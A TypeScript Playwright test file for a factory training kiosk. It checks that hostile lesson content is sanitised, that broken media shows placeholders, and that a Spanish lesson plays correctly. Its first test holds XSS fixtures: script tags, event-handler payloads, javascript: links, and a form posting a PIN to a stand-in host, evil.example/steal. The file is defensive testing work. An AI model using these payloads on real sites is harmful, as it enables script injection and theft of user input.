import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import type { Card, CheckCard, Lesson } from '../../common/contracts/lesson';
import { buildPack } from '../../content-pack/pack';
import { seedDemoIfEmpty } from '../../electron/core/demo/seed-demo';
import { upsertLesson } from '../../electron/core/lessons/lesson-repo';
import { replaceRequirements } from '../../electron/core/paths/requirements-repo';
import { cacheMediaFile } from '../../electron/core/store/media-cache';
import { openStore, type Store } from '../../electron/core/store/open-store';
import { E2E_TERMINAL_CONFIG, readDb, tapBadge } from './harness';
import { useKioskBrowser, type OpenedKiosk } from './kiosk-browser';

/**
 * Lesson content in real Chromium, played from a kiosk data dir prepared the way a sync leaves it
 * (lessons in SQLite, media in the cache by hash): hostile content renders inert, missing or broken
 * media shows a placeholder without breaking the lesson, and a Spanish-speaking worker plays a
 * starter-library lesson in Spanish with every answer recorded.
 */

const ALEX_BADGE = '1001';
const LUCIA = { badge: '1002', workerId: 'demo-lucia-fernandez' };

const kiosks = useKioskBrowser();

/** A demo terminal's data dir with extra content installed and the station requiring `required`. */
function prepareDataDir(install: (store: Store) => void, required: string): string {
  const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'shiftlearn-e2e-content-'));
  const store = openStore(dataDir);
  try {
    seedDemoIfEmpty(store, new Date());
    store.db.transaction(() => {
      install(store);
      replaceRequirements(store.db, { byStation: { 'press-line-4': { lessons: [required], skills: [] } }, byRole: {} });
    })();
  } finally {
    store.close();
  }
  return dataDir;
}

interface Watched extends OpenedKiosk {
  dialogs: string[];
  remoteRequests: string[];
}

/** Opens the kiosk and records every dialog, every request that leaves the kiosk host, and CSP violations. */
async function openKiosk(dataDir: string): Promise<Watched> {
  const dialogs: string[] = [];
  const remoteRequests: string[] = [];
  const opened = await kiosks.openKiosk({
    config: E2E_TERMINAL_CONFIG,
    dataDir,
    beforeLoad: async (page, kiosk) => {
      const origin = new URL(kiosk.url).origin;
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      page.on('request', (r) => {
        if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) remoteRequests.push(r.url());
      });
      await page.addInitScript(() => {
        const w = window as unknown as { __cspViolations: string[] };
        w.__cspViolations = [];
        document.addEventListener('securitypolicyviolation', (e) => w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
      });
    },
  });
  return { ...opened, dialogs, remoteRequests };
}

async function signIn(page: Page, badge: string): Promise<void> {
  await tapBadge(page, badge);
  await page.getByTestId('greeting').waitFor();
}

async function startNextLesson(page: Page, badge: string): Promise<void> {
  await signIn(page, badge);
  if ((await page.getByTestId('start-lesson').count()) === 0) throw new Error(`no lesson offered: ${await page.locator('main').textContent()}`);
  await page.getByTestId('start-lesson').click();
  await page.getByTestId('lesson-player').waitFor();
}

const cardIndex = (page: Page) => page.getByTestId('card-index').textContent();

async function answerRight(page: Page, card: CheckCard): Promise<void> {
  const right = card.options.filter((o) => o.correct);
  for (const o of right) await page.getByTestId(`check-option-${o.id}`).click();
  if (card.mode === 'multiple') await page.getByTestId('check-answer').click();
  await page.locator('[data-testid="check-feedback"][data-correct="true"]').waitFor();
}

function lesson(id: string, title: string, language: string, cards: Card[]): Lesson {
  return {
    id, version: 1, language, title, summary: '', durationMinutes: 2, skills: [], roles: [], stations: [],
    prerequisites: [], recertifyAfterDays: null, tags: [], cards,
  };
}

const check = (itemId: string, question: string): CheckCard => ({
  kind: 'check', id: `card-${itemId}`, itemId, mode: 'single', question,
  options: [
    { id: 'a', text: 'Stop and lock out', correct: true, feedback: 'Right.' },
    { id: 'b', text: '<img src=x onerror="window.__xss=\'option\'">Reach in', correct: false, feedback: 'No.' },
  ],
});

describe('hostile lesson content in Chromium', () => {
  const evilSvg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="window.top.__xss=\'svg-onload\';alert(\'svg\')">' +
      '<script>window.top.__xss = "svg-script"; alert("svg script")</script>' +
      '<image href="http://evil.example/svg-image.png" width="5" height="5"/>' +
      '<rect width="10" height="10" fill="orange"/></svg>',
  );
  const evilSvgHash = crypto.createHash('sha256').update(evilSvg).digest('hex');
  const markdown = [
    '# Look here',
    '<script>window.__xss = "script"; alert("script")</script>',
    '[Click me](javascript:window.__xss=\'link\';alert(\'link\'))',
    '<a href="javascript:alert(\'raw link\')" id="raw-link">Raw link</a>',
    '<a href="http://evil.example/page">Remote link</a>',
    '<img src="x" onerror="window.__xss=\'onerror\';alert(\'onerror\')">',
    `<img src="media:${evilSvgHash}" onerror="alert('cached onerror')" onload="window.__xss='onload'" alt="Cached diagram">`,
    '<iframe src="http://evil.example/frame" srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">',
    '<form action="http://evil.example/steal"><input name="pin"><button>Send</button></form>',
    '![Remote picture](http://evil.example/remote.png)',
    '<img src="https://evil.example/tracker.gif" alt="tracker">',
    '<svg onload="alert(\'inline svg\')"><script>window.__xss = "inline-svg"</script></svg>',
    '<div style="background:url(http://evil.example/bg.png)">Styled text</div>',
    '<link rel="stylesheet" href="http://evil.example/x.css"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<details open ontoggle="alert(\'toggle\')"><summary>More</summary>Hidden</details>',
    '<video src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a.mp3" autoplay></audio>',
    `<img src="media:${evilSvgHash}" alt="Diagram with script">`,
  ].join('\n');
  const cards: Card[] = [
    { kind: 'text', id: 'evil-text', markdown },
    { kind: 'image', id: 'evil-image', media: evilSvgHash, alt: 'SVG with a script inside', caption: '<b onmouseover="alert(1)">caption</b>' },
    check('xss-check', '<script>window.__xss="question"</script>When the guard is off?'),
  ];

  it('renders script, handlers, javascript: links, frames, forms and remote URLs inert: no dialog, no script, no remote request', async () => {
    const dataDir = prepareDataDir((store) => {
      cacheMediaFile(store.db, store.mediaDir, evilSvg, 'image/svg+xml');
      upsertLesson(store.db, lesson('xss-lesson', 'Hostile lesson', 'en', cards));
    }, 'xss-lesson');
    const { page, kiosk, dialogs, remoteRequests } = await openKiosk(dataDir);
    await startNextLesson(page, ALEX_BADGE);
    expect(await page.locator('.player-title').textContent()).toBe('Hostile lesson');

    const text = page.locator('.card-text');
    await text.waitFor();
    // Text survives, everything active is gone.
    expect(await text.textContent()).toContain('Click me');
    expect(await text.textContent()).toContain('Styled text');
    expect(await text.locator('script, iframe, object, embed, form, input, svg, style, link, meta, video, audio, a, [style]').count()).toBe(0);
    const attributes = await text.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => `${a.name}=${a.value}`)),
    );
    expect(attributes.filter((a) => /^on|javascript:|evil\.example/i.test(a))).toEqual([]);
    // The cached picture stays, served by the kiosk; the raw-HTML <img src="x"> and remote ones are dropped.
    const sources = await text.locator('img').evaluateAll((imgs) => imgs.map((i) => (i as HTMLImageElement).src));
    expect(sources).toHaveLength(2);
    for (const src of sources) expect(src).toBe(`${kiosk.url}media/${evilSvgHash}`);
    await page.getByTestId('zoom-image').first().click();
    await page.getByTestId('image-zoom').waitFor();
    await page.keyboard.press('Escape');

    await page.getByTestId('next-card').click();
    await page.locator('.card-figure img').waitFor();
    expect(await page.locator('figcaption').textContent()).toBe('<b onmouseover="alert(1)">caption</b>');
    await page.getByTestId('zoom-image').click();
    await page.getByTestId('image-zoom').waitFor();
    await page.getByTestId('close-zoom').click();

    await page.getByTestId('next-card').click();
    await page.getByTestId('check-option-b').click();
    await page.getByTestId('check-option-a').click();
    await page.getByTestId('complete-lesson').click();
    await page.getByTestId('done-screen').waitFor();

    expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(remoteRequests).toEqual([]);
    // The CSP backstop never had to refuse a URL or a script element: the sanitiser had removed them.
    // (Chromium does report inline attributes seen while DOMPurify parses the lesson in its inert
    // document; those are parse-time reports of what was then stripped, not attempts to run.)
    const violations = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
    expect(violations.filter((v) => !/^(script|style)-src-attr inline$/.test(v))).toEqual([]);
    expect(readDb(kiosk, (db) => db.prepare("SELECT count(*) FROM completions WHERE lesson_id = 'xss-lesson'").pluck().get())).toBe(1);
  });
});

describe('missing and corrupt media in Chromium', () => {
  it('shows "Image not available" / "Video not available" and the lesson still plays to the end', async () => {
    const corruptPng = Buffer.from('this is not a PNG at all');
    const absent = 'f'.repeat(64);
    const dataDir = prepareDataDir((store) => {
      const corruptHash = cacheMediaFile(store.db, store.mediaDir, corruptPng, 'image/png');
      // A file that vanished from the cache after it was recorded (disk trouble, a cleaned folder).
      const vanished = cacheMediaFile(store.db, store.mediaDir, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/svg+xml');
      fs.rmSync(path.join(store.mediaDir, vanished));
      upsertLesson(
        store.db,
        lesson('broken-media', 'Lesson with broken media', 'en', [
          { kind: 'text', id: 't1', markdown: `Look at the switch.\n![The switch](media:${absent})` },
          { kind: 'image', id: 'i1', media: corruptHash, alt: 'Guard on the press', caption: 'The guard stays on.' },
          { kind: 'image', id: 'i2', media: vanished, alt: 'Lock on the isolator' },
          { kind: 'video', id: 'v1', media: absent, mimeType: 'video/webm', captions: absent, caption: 'Try-start test' },
          check('broken-check', 'Is a missing guard OK?'),
        ]),
      );
    }, 'broken-media');
    const { page, kiosk } = await openKiosk(dataDir);
    await startNextLesson(page, ALEX_BADGE);

    const placeholder = page.getByTestId('media-missing');
    await placeholder.waitFor();
    expect(await placeholder.textContent()).toBe('Image not available: The switch');
    expect(await page.locator('.card-text').textContent()).toContain('Look at the switch.');

    await page.getByTestId('next-card').click();
    await placeholder.waitFor();
    expect(await placeholder.textContent()).toContain('Image not available');
    expect(await placeholder.textContent()).toContain('Guard on the press');
    expect(await page.locator('figcaption').textContent()).toBe('The guard stays on.');

    await page.getByTestId('next-card').click();
    expect(await cardIndex(page)).toBe('Card 3 of 5');
    await placeholder.waitFor();
    expect(await placeholder.textContent()).toContain('Lock on the isolator');

    await page.getByTestId('next-card').click();
    await placeholder.waitFor();
    expect(await placeholder.textContent()).toBe('Video not available');
    expect(await page.locator('figcaption').textContent()).toBe('Try-start test');

    await page.getByTestId('next-card').click();
    await page.getByTestId('check-option-a').click();
    await page.getByTestId('complete-lesson').click();
    await page.getByTestId('done-screen').waitFor();
    expect(readDb(kiosk, (db) => db.prepare("SELECT count(*) FROM completions WHERE lesson_id = 'broken-media'").pluck().get())).toBe(1);
  });
});

describe('a Spanish-speaking worker and the starter library', () => {
  it('Lucía (badge 1002) plays a starter lesson in Spanish (Spanish title and UI), every answer recorded', async () => {
    const pack = buildPack(path.resolve(__dirname, '../../content'));
    const target = pack.lessons.find((l) => l.id === 'lockout-tagout-basics' && l.language === 'es')!;
    const english = pack.lessons.find((l) => l.id === 'lockout-tagout-basics' && l.language === 'en')!;
    expect(target.title).not.toBe(english.title);
    const dataDir = prepareDataDir((store) => {
      for (const m of pack.manifest.media) cacheMediaFile(store.db, store.mediaDir, pack.files.get(`media/${m.sha256}`)!, m.mimeType);
      for (const l of pack.lessons) upsertLesson(store.db, l);
    }, target.id);
    const { page, kiosk, dialogs } = await openKiosk(dataDir);

    await signIn(page, LUCIA.badge);
    expect(await page.getByTestId('greeting').textContent()).toBe('Hola Lucía');
    expect(await page.locator('#next-lesson-title').textContent()).toBe(target.title);
    expect(await page.getByTestId('start-lesson').textContent()).toBe('Empezar');
    await page.getByTestId('start-lesson').click();
    await page.getByTestId('lesson-player').waitFor();
    expect(await page.locator('.player-title').textContent()).toBe(target.title);
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('es');

    const checks: CheckCard[] = [];
    for (const [i, card] of target.cards.entries()) {
      expect(await cardIndex(page)).toBe(`Tarjeta ${i + 1} de ${target.cards.length}`);
      if (card.kind === 'text') {
        // One sentence per line in the source stays one per line on screen.
        const plain = (line: string | undefined) => line !== undefined && /^[\p{L}¿¡*]/u.test(line);
        const lines = card.markdown.split('\n');
        if (lines.some((l, n) => plain(l) && plain(lines[n + 1]))) expect(await page.locator('.card-text br').count()).toBeGreaterThan(0);
      }
      if (card.kind === 'image') {
        await page.locator('.card-figure img').waitFor();
        expect(await page.getByTestId('media-missing').count()).toBe(0);
        expect(await page.locator('.card-figure img').evaluate((img) => (img as HTMLImageElement).naturalWidth > 0)).toBe(true);
      }
      if (card.kind === 'video') {
        expect(await page.locator('video track').evaluate((t) => (t as HTMLTrackElement).track.mode)).toBe('showing');
        expect(await page.getByTestId('replay-video').textContent()).toContain('Repetir');
      }
      if (card.kind === 'check') {
        checks.push(card);
        await answerRight(page, card);
      }
      if (i < target.cards.length - 1) {
        expect(await page.getByTestId('next-card').textContent()).toContain('Siguiente');
        await page.getByTestId('next-card').click();
      }
    }
    expect(checks.length).toBeGreaterThan(0);
    expect(await page.getByTestId('complete-lesson').textContent()).toContain('Terminar');
    await page.getByTestId('complete-lesson').click();
    await page.getByTestId('done-screen').waitFor();
    expect(await page.getByTestId('done-screen').textContent()).toContain('Lección completada');
    expect(dialogs).toEqual([]);

    const stored = readDb(kiosk, (db) => ({
      completion: db.prepare('SELECT id, language, lesson_version, score FROM completions WHERE worker_id = ? AND lesson_id = ?').get(LUCIA.workerId, target.id) as
        | { id: string; language: string; lesson_version: number; score: number }
        | undefined,
      items: db.prepare('SELECT item_id, chosen_json, correct FROM item_results WHERE worker_id = ? AND lesson_id = ? ORDER BY id').all(LUCIA.workerId, target.id) as {
        item_id: string;
        chosen_json: string;
        correct: number;
      }[],
    }));
    expect(stored.completion).toMatchObject({ language: 'es', lesson_version: target.version, score: 1 });
    expect(stored.items.map((r) => ({ itemId: r.item_id, chosen: JSON.parse(r.chosen_json), correct: r.correct }))).toEqual(
      checks.map((c) => ({ itemId: c.itemId, chosen: c.options.filter((o) => o.correct).map((o) => o.id), correct: 1 })),
    );
  });
});

describe('player depth in Chromium', () => {
  it('video captions are showing from the start with a Replay button; a picture zooms by keyboard and closes with Escape', async () => {
    const dataDir = prepareDataDir(() => undefined, 'press-pinch-points');
    const { page, dialogs } = await openKiosk(dataDir);
    await startNextLesson(page, ALEX_BADGE);

    while ((await page.locator('[data-card-kind="image"]').count()) === 0) await page.getByTestId('next-card').click();
    const opener = page.getByTestId('zoom-image');
    await opener.focus();
    await page.keyboard.press('Enter');
    const zoom = page.getByTestId('image-zoom');
    await zoom.waitFor();
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('close-zoom');
    const before = await cardIndex(page);
    await page.keyboard.press('ArrowRight');
    expect(await cardIndex(page)).toBe(before);
    await page.keyboard.press('Escape');
    await zoom.waitFor({ state: 'detached' });
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('zoom-image');

    while ((await page.locator('[data-card-kind="video"]').count()) === 0) await page.getByTestId('next-card').click();
    const video = page.getByTestId('lesson-video');
    await video.waitFor();
    await page.waitForFunction(() => (document.querySelector('video track') as HTMLTrackElement | null)?.readyState === 2);
    expect(await page.locator('video track').evaluate((t) => (t as HTMLTrackElement).track.mode)).toBe('showing');
    expect(await page.locator('video track').evaluate((t) => (t as HTMLTrackElement).track.cues?.length ?? 0)).toBeGreaterThan(0);
    const replay = page.getByTestId('replay-video');
    expect(await replay.textContent()).toContain('Replay');
    const box = (await replay.boundingBox())!;
    expect(box.height).toBeGreaterThanOrEqual(72);
    await replay.click();
    expect(await video.evaluate((v) => (v as HTMLVideoElement).currentTime < 1)).toBe(true);
    expect(dialogs).toEqual([]);
  });
});
